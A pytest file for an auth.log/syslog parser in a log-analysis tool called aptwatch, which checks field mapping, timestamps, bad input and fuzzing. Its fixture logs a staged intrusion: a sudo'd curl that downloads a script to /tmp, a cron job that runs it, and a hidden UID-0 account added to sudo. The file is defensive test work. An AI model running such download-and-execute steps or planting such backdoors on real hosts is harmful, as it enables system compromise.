# ruff: noqa: E501  (the fixture holds log lines as daemons write them, longer than our line limit)
"""auth.log / secure / syslog: golden mapping, year-less timestamps, RFC 5424, bad input, fuzz."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aptwatch.sources import detect_format
from aptwatch.sources.authlog import AuthLog
from aptwatch.sources.base import IngestSettings
from tests.sources.helpers import count, data, read_all

# Formats as OpenSSH, sudo, shadow-utils, PAM, systemd-logind and cron write them (Debian/Ubuntu).
AUTH_LOG = """\
Dec 31 23:59:58 web01 sshd[2101]: Accepted publickey for deploy from 203.0.113.7 port 52144 ssh2: RSA SHA256:Xk3bP0q5cJ9lR1mYt0aZk2d8x7V6uT5sR4qP3oN2mL1
Dec 31 23:59:58 web01 sshd[2101]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)
Dec 31 23:59:59 web01 systemd-logind[612]: New session 42 of user deploy.
Jan  1 00:00:03 web01 sshd[2188]: Failed password for invalid user admin from 198.51.100.23 port 40022 ssh2
Jan  1 00:00:03 web01 sshd[2188]: Invalid user admin from 198.51.100.23 port 40022
Jan  1 00:00:04 web01 sshd[2190]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=198.51.100.23  user=root
Jan  1 00:00:06 web01 sshd[2190]: Failed password for root from 198.51.100.23 port 40030 ssh2
Jan  1 00:00:09 web01 sshd[2190]: error: maximum authentication attempts exceeded for root from 198.51.100.23 port 40030 ssh2 [preauth]
Jan  1 00:00:09 web01 sshd[2190]: Disconnecting authenticating user root 198.51.100.23 port 40030: Too many authentication failures [preauth]
Jan  1 00:00:10 web01 sshd[2192]: Connection closed by authenticating user root 198.51.100.23 port 40040 [preauth]
Jan  1 00:01:00 web01 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -s http://203.0.113.9/x.sh -o /tmp/x.sh
Jan  1 00:01:00 web01 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)
Jan  1 00:01:02 web01 sudo: pam_unix(sudo:session): session closed for user root
Jan  1 00:01:05 web01 sudo:     eve : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/eve ; USER=root ; COMMAND=/bin/bash
Jan  1 00:01:10 web01 su[2250]: (to root) deploy on pts/0
Jan  1 00:01:10 web01 su[2250]: pam_unix(su:session): session opened for user root(uid=0) by deploy(uid=1001)
Jan  1 00:01:20 web01 useradd[2260]: new group: name=backup2, GID=1002
Jan  1 00:01:20 web01 useradd[2260]: new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0
Jan  1 00:01:25 web01 usermod[2270]: add 'backup2' to group 'sudo'
Jan  1 00:01:25 web01 usermod[2270]: add 'backup2' to shadow group 'sudo'
Jan  1 00:01:30 web01 passwd[2280]: pam_unix(passwd:chauthtok): password changed for backup2
Jan  1 00:01:40 web01 groupadd[2290]: group added to /etc/group: name=ops, GID=1003
Jan  1 00:01:45 web01 userdel[2300]: delete user 'olduser'
Jan  1 00:02:01 web01 CRON[2310]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
Jan  1 00:02:01 web01 CRON[2311]: (root) CMD (/tmp/x.sh >/dev/null 2>&1)
Jan  1 00:05:00 web01 sshd[2101]: Received disconnect from 203.0.113.7 port 52144:11: disconnected by user
Jan  1 00:05:00 web01 sshd[2101]: Disconnected from user deploy 203.0.113.7 port 52144
Jan  1 00:05:00 web01 systemd-logind[612]: Removed session 42.
Jan  1 00:06:00 web01 kernel: [12345.678901] audit: type=1400 audit(1704067560.123:812): apparmor="DENIED" operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=3001 comm="cupsd" requested_mask="r" denied_mask="r" fsuid=0 ouid=0
Jan  1 00:07:00 web01 systemd[1]: Started Session 43 of User deploy.
"""


def write(tmp_path: Path, text: str, name: str = "auth.log") -> Path:
    p = tmp_path / name
    p.write_bytes(text.encode())
    return p


def rows_by_record(rows: dict[str, list[dict[str, object]]]) -> dict[int, tuple[str, dict[str, object]]]:
    return {int(r["record"]): (t, r) for t, rs in rows.items() for r in rs}  # type: ignore[call-overload]


def test_sniff() -> None:
    src = AuthLog()
    assert src.sniff(AUTH_LOG.encode(), "auth.log")
    assert detect_format(AUTH_LOG.encode(), "x").name == "authlog"  # type: ignore[union-attr]
    assert src.sniff(b"<34>1 2003-10-11T22:14:15.003Z mymachine.example.com su - ID47 - 'su root' failed\n", "x")
    assert not src.sniff(b'{"a": 1}\n{"b": 2}\n', "x.json")
    assert not src.sniff(b"#separator \\x09\n#fields\tts\n", "conn.log")


def test_golden(tmp_path: Path) -> None:
    rows, warnings = read_all(AuthLog(), write(tmp_path, AUTH_LOG), IngestSettings(default_year=2023))
    assert warnings == []
    assert count(rows) == len(AUTH_LOG.splitlines())  # every line stored once
    assert {t: len(r) for t, r in rows.items()} == {"auth": 20, "account": 7, "process": 1, "generic": 2}
    by = rows_by_record(rows)
    t, ok = by[1]
    assert t == "auth" and ok["time"] == datetime(2023, 12, 31, 23, 59, 58, tzinfo=UTC)
    assert (ok["action"], ok["outcome"], ok["protocol"], ok["method"], ok["target_user"], ok["src_ip"],
            ok["src_port"], ok["process_id"], ok["host"], ok["channel"]) == \
        ("logon", "success", "ssh", "publickey", "deploy", "203.0.113.7", 52144, 2101, "web01", "sshd")
    assert data(ok)["key"].startswith("RSA SHA256:")  # type: ignore[union-attr]
    # the year rolls over at Dec -> Jan
    assert by[4][1]["time"] == datetime(2024, 1, 1, 0, 0, 3, tzinfo=UTC)
    assert (by[4][1]["action"], by[4][1]["status"], by[4][1]["target_user"]) == ("logon_failed", "invalid_user",
                                                                                  "admin")
    assert (by[6][1]["action"], by[6][1]["target_user"], by[6][1]["src_ip"]) == ("logon_failed", "root",
                                                                                  "198.51.100.23")
    assert by[9][1]["action"] == "logon_failed"  # Disconnecting ...: Too many authentication failures
    sudo = by[11][1]
    assert (sudo["action"], sudo["subject_user"], sudo["target_user"], sudo["outcome"]) == \
        ("sudo", "deploy", "root", "success")
    assert sudo["method"] == "/usr/bin/curl -s http://203.0.113.9/x.sh -o /tmp/x.sh"
    assert data(sudo) == {"TTY": "pts/0", "PWD": "/home/deploy"}
    denied = by[14][1]
    assert denied["outcome"] == "failure" and data(denied)["reason"] == "user NOT in sudoers"
    assert (by[15][1]["action"], by[15][1]["target_user"], by[15][1]["subject_user"]) == ("su", "root", "deploy")
    t, new_user = by[18]
    assert t == "account" and (new_user["action"], new_user["target_user"]) == ("user_created", "backup2")
    assert data(new_user)["UID"] == "0" and data(new_user)["from"] == "/dev/pts/0"
    assert (by[19][1]["action"], by[19][1]["group_name"], by[19][1]["member_name"]) == ("member_added", "sudo",
                                                                                        "backup2")
    assert by[21][1]["action"] == "password_changed" and by[23][1]["action"] == "user_deleted"
    t, cron = by[25]
    assert t == "process" and (cron["user"], cron["command_line"], cron["parent_process_id"]) == \
        ("root", "/tmp/x.sh >/dev/null 2>&1", 2311)
    assert (by[27][1]["action"], by[27][1]["target_user"]) == ("logoff", "deploy")
    assert (by[28][1]["action"], by[28][1]["logon_id"]) == ("session_end", "42")
    t, avc = by[29]  # a kernel audit record inside the syslog: the audit parser read it
    assert t == "generic" and avc["provider"] == "auditd" and data(avc)["apparmor"] == "DENIED"
    t, other = by[30]
    assert t == "generic" and data(other)["message"] == "Started Session 43 of User deploy."


def test_year_from_file_mtime(tmp_path: Path) -> None:
    p = write(tmp_path, AUTH_LOG)
    os.utime(p, (datetime(2024, 1, 2, tzinfo=UTC).timestamp(),) * 2)
    rows, _ = read_all(AuthLog(), p)
    by = rows_by_record(rows)
    assert by[1][1]["time"].year == 2023 and by[4][1]["time"].year == 2024  # type: ignore[union-attr]


def test_local_timezone_and_other_header_forms(tmp_path: Path) -> None:
    text = (
        "Mar 10 12:00:00 web01 sshd[1]: Accepted password for a from 10.0.0.1 port 22 ssh2\n"
        "2024-03-10T12:00:00.123456+02:00 web01.corp.example sshd[2]: Invalid user x from 10.0.0.2 port 23\n"
        '<86>1 2024-03-10T12:00:01.5Z web02 sudo 77 - [meta sequenceId="1" note="a \\"q\\" \\]"] '
        "alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id\n"
        "<38>Mar 10 12:00:02 web03 su: FAILED SU (to root) bob on pts/2\n"
    )
    rows, warnings = read_all(AuthLog(), write(tmp_path, text),
                              IngestSettings(default_year=2024, local_timezone="Europe/Vienna"))
    assert warnings == []
    by = rows_by_record(rows)
    assert by[1][1]["time"] == datetime(2024, 3, 10, 11, 0, tzinfo=UTC)  # CET = UTC+1
    assert by[2][1]["time"] == datetime(2024, 3, 10, 10, 0, 0, 123456, tzinfo=UTC) and by[2][1]["host"] == "web01"
    sudo = by[3][1]
    assert (sudo["action"], sudo["host"], sudo["process_id"], sudo["method"]) == ("sudo", "web02", 77, "/bin/id")
    assert data(sudo)["meta.note"] == 'a "q" ]' and data(sudo)["facility"] == "authpriv"
    assert (by[4][1]["action"], by[4][1]["outcome"]) == ("su", "failure")


def test_truncated_and_garbled(tmp_path: Path) -> None:
    text = AUTH_LOG[: AUTH_LOG.index("port 40022") + 4]  # cut in the middle of a line
    rows, warnings = read_all(AuthLog(), write(tmp_path, text), IngestSettings(default_year=2023))
    assert warnings == [] and count(rows) == 4
    garbled = bytearray(AUTH_LOG.encode())
    garbled[3] = 0xFF  # first line's month becomes invalid UTF-8
    garbled[garbled.index(b"Jan  1 00:01:00")] = ord("X")  # an unknown month
    p = tmp_path / "g.log"
    p.write_bytes(bytes(garbled) + b"Feb 30 10:00:00 web01 sshd[9]: Accepted password for a from b port 1 ssh2\n"
                  + b"\x00\x00 binary junk \x01\n")
    rows, warnings = read_all(AuthLog(), p, IngestSettings(default_year=2023))
    assert count(rows) == len(AUTH_LOG.splitlines()) + 2  # nothing dropped
    reasons = sorted(w.reason for w in warnings)
    assert reasons == ["bad_encoding", "bad_time", "no_header", "no_header", "no_header"]
    assert all(r["time"] is None for r in rows["generic"] if r["provider"] is None)  # no header, no time


lines = st.sampled_from(AUTH_LOG.splitlines())
junk = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\n\r"), max_size=80)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.one_of(lines, junk, lines.map(lambda s: s[: len(s) // 2]),
                          st.builds(lambda a, b: a[:20] + b, lines, junk)), min_size=1, max_size=25))
def test_fuzz_every_line_stored_once(tmp_path: Path, text_lines: list[str]) -> None:
    p = tmp_path / "fuzz.log"
    p.write_bytes(("\n".join(text_lines) + "\n").encode())
    rows, _ = read_all(AuthLog(), p, IngestSettings(default_year=2023))
    nonblank = [ln for ln in p.read_bytes().decode().split("\n") if ln.strip()]
    stored = [ln for t in rows.values() for r in t for ln in str(r["raw"]).split("\n")]
    assert sorted(stored) == sorted(nonblank)


def test_cli_year_and_timezone(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from aptwatch.cli.main import app
    from aptwatch.store import Store

    p = write(tmp_path, AUTH_LOG)
    store = tmp_path / "s"
    res = CliRunner().invoke(app, ["ingest", str(p), "--store", str(store), "--year", "2019",
                                   "--timezone", "America/New_York"])
    assert res.exit_code == 0, res.output
    with Store.open(store).session() as s:
        first = s.sql("SELECT min(time) AS t FROM auth").to_pylist()[0]["t"]
        last = s.sql("SELECT max(time) AS t FROM auth").to_pylist()[0]["t"]
    assert first == datetime(2020, 1, 1, 4, 59, 58, tzinfo=UTC)  # Dec 31 23:59:58 EST, 2019
    assert last.year == 2020  # type: ignore[union-attr]
    bad = CliRunner().invoke(app, ["ingest", str(p), "--store", str(store), "--timezone", "Mars/Olympus"])
    assert bad.exit_code == 3 and "unknown time zone" in bad.output
